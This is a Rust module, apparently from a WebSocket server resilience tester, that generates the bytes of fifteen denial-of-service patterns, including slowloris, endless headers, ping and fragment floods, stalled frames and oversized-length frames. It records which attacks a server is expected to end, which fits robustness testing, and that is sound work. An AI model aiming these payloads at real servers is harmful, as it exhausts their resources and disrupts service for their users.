//! What attackers send: pure functions from a step's number to bytes.

use std::fmt;
use std::str::FromStr;

use fastrand::Rng;

use crate::wire::{self, Key, Opcode};

/// About how many bytes a step of a flood has.
const BURST: usize = 4 << 10;
/// Bytes of each message that is sent and whose echo is never read.
const UNREAD: usize = 64 << 10;
/// What a frame that is never completed announces: little enough for any server to wait for it.
const ANNOUNCED: usize = 60_000;
/// Random bytes of one step.
const GARBAGE: usize = 512;

/// A way to use a server up at little cost.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Attack {
    /// Connects and says nothing.
    Silent,
    /// A request of which one byte comes now and then, without an end.
    Slowloris,
    /// A request whose header fields do not end.
    EndlessHeaders,
    /// Random bytes instead of a request.
    GarbageRequest,
    /// Resets right after connecting.
    ResetConnect,
    /// A frame header that announces much, then nothing.
    StalledFrame,
    /// The same, then a byte now and then.
    TrickledFrame,
    /// Sends messages and reads none of the echoes, behind a small receive buffer.
    NeverRead,
    /// As many pings as a flood has room for.
    PingFlood,
    /// One message of continuation frames with no byte or one, without an end.
    FragmentFlood,
    /// Resets in the middle of a frame.
    ResetFrame,
    /// Random bytes instead of frames.
    GarbageFrames,
    /// A frame that announces 2^63 - 1 bytes, then bytes.
    OversizedLength,
    /// A ping of 1000 bytes (RFC 6455 section 5.5: at most 125).
    OversizedControl,
    /// A frame without a mask (RFC 6455 section 5.1).
    Unmasked,
}

/// How an attacker's connection begins.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Opening {
    /// Without the opening handshake.
    Raw,
    /// With a proper one.
    Handshake,
}

/// When an attacker's next step is due.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Next {
    /// As the rate of floods says.
    Soon,
    /// As slow attackers are.
    Slowly,
    /// Never: what the server does is waited for.
    Never,
    /// None; the connection is reset now.
    Reset,
}

impl Attack {
    /// All of them.
    pub const ALL: [Self; 15] = [
        Self::Silent,
        Self::Slowloris,
        Self::EndlessHeaders,
        Self::GarbageRequest,
        Self::ResetConnect,
        Self::StalledFrame,
        Self::TrickledFrame,
        Self::NeverRead,
        Self::PingFlood,
        Self::FragmentFlood,
        Self::ResetFrame,
        Self::GarbageFrames,
        Self::OversizedLength,
        Self::OversizedControl,
        Self::Unmasked,
    ];

    /// What it is called.
    pub fn name(self) -> &'static str {
        match self {
            Self::Silent => "silent",
            Self::Slowloris => "slowloris",
            Self::EndlessHeaders => "endless-headers",
            Self::GarbageRequest => "garbage-request",
            Self::ResetConnect => "reset-connect",
            Self::StalledFrame => "stalled-frame",
            Self::TrickledFrame => "trickled-frame",
            Self::NeverRead => "never-read",
            Self::PingFlood => "ping-flood",
            Self::FragmentFlood => "fragment-flood",
            Self::ResetFrame => "reset-frame",
            Self::GarbageFrames => "garbage-frames",
            Self::OversizedLength => "oversized-length",
            Self::OversizedControl => "oversized-control",
            Self::Unmasked => "unmasked",
        }
    }

    /// How its connections begin.
    pub fn opening(self) -> Opening {
        match self {
            Self::Silent
            | Self::Slowloris
            | Self::EndlessHeaders
            | Self::GarbageRequest
            | Self::ResetConnect => Opening::Raw,
            _ => Opening::Handshake,
        }
    }

    /// Whether a server is expected to end it, sooner or later. Floods of frames that RFC 6455 allows
    /// it may bear as long as they cost it little.
    pub fn is_to_be_ended(self) -> bool {
        !matches!(
            self,
            Self::PingFlood | Self::FragmentFlood | Self::ResetConnect | Self::ResetFrame
        )
    }

    /// Appends the bytes of a connection's step `n`, counted from 0, at most about 64 KiB; what comes
    /// after it. `host` and `path` are those of the request.
    pub fn step(self, n: u64, host: &str, path: &str, rng: &mut Rng, out: &mut Vec<u8>) -> Next {
        let key = rng.u32(..).to_be_bytes();
        match self {
            Self::Silent => return Next::Never,
            Self::ResetConnect => return Next::Reset,
            Self::Slowloris => {
                let head = head(host, path);
                // Past its last header field come more of them, the same over and over.
                let fields = b"X-Wait: on\r\n";
                let at = n as usize;
                let byte = head.get(at);
                out.push(*byte.unwrap_or_else(|| &fields[(at - head.len()) % fields.len()]));
                return Next::Slowly;
            }
            Self::EndlessHeaders => {
                if n == 0 {
                    out.extend_from_slice(&head(host, path));
                }
                for i in 0..BURST / 64 {
                    let field = format!("X-Field-{n:010}-{i:02}: {:036}\r\n", 0);
                    out.extend_from_slice(field.as_bytes());
                }
            }
            Self::GarbageRequest | Self::GarbageFrames => {
                let start = out.len();
                out.resize(start + GARBAGE, 0);
                rng.fill(&mut out[start..]);
            }
            Self::StalledFrame => {
                wire::header(out, Opcode::Binary, ANNOUNCED, key);
                return Next::Never;
            }
            Self::TrickledFrame if n == 0 => {
                wire::header(out, Opcode::Binary, ANNOUNCED, key);
                return Next::Slowly;
            }
            // One short of the whole frame, however long that takes.
            Self::TrickledFrame if n >= ANNOUNCED as u64 => return Next::Never,
            Self::TrickledFrame => {
                out.push(rng.u8(..));
                return Next::Slowly;
            }
            Self::NeverRead => {
                wire::header(out, Opcode::Binary, UNREAD, key);
                out.resize(out.len() + UNREAD, 0);
            }
            Self::PingFlood => {
                for _ in 0..BURST / (6 + 125) {
                    wire::control(out, Opcode::Ping, &[b'p'; 125], key);
                }
            }
            Self::FragmentFlood => {
                let first = n == 0;
                for i in 0..BURST / 6 {
                    let opcode = if first && i == 0 {
                        Opcode::Text
                    } else {
                        Opcode::Continuation
                    };
                    // Mostly empty ones: a message that grows would soon meet a limit.
                    let len = usize::from(i == 0);
                    let start = out.len();
                    wire::header(out, opcode, len, key);
                    out[start] &= 0x7f;
                    out.resize(out.len() + len, b'a' ^ key[0]);
                }
            }
            Self::ResetFrame => {
                if n > 0 {
                    return Next::Reset;
                }
                wire::header(out, Opcode::Binary, ANNOUNCED, key);
                out.resize(out.len() + GARBAGE, 0);
            }
            Self::OversizedLength => {
                if n == 0 {
                    out.extend_from_slice(&[0x82, 0xff]);
                    out.extend_from_slice(&(u64::MAX >> 1).to_be_bytes());
                    out.extend_from_slice(&key);
                }
                out.resize(out.len() + BURST, 0);
            }
            Self::OversizedControl => {
                wire::header(out, Opcode::Ping, 1000, key);
                out.resize(out.len() + 1000, 0);
                return Next::Never;
            }
            Self::Unmasked => {
                out.extend_from_slice(b"\x81\x05Hello");
                return Next::Never;
            }
        }
        Next::Soon
    }
}

/// A request that only lacks the empty line at its end.
fn head(host: &str, path: &str) -> Vec<u8> {
    let mut head = Vec::with_capacity(256);
    wire::request(&mut head, host, path, &Key::new([7; 16]));
    head.truncate(head.len() - 2);
    head
}

impl fmt::Display for Attack {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

impl FromStr for Attack {
    type Err = String;

    fn from_str(name: &str) -> Result<Self, String> {
        let found = Self::ALL.into_iter().find(|attack| attack.name() == name);
        found.ok_or_else(|| {
            let names: Vec<_> = Self::ALL.iter().map(|attack| attack.name()).collect();
            format!(
                "no attack is called {name:?}; there are all, {}",
                names.join(", ")
            )
        })
    }
}

#[cfg(test)]
#[path = "attack_tests.rs"]
mod tests;
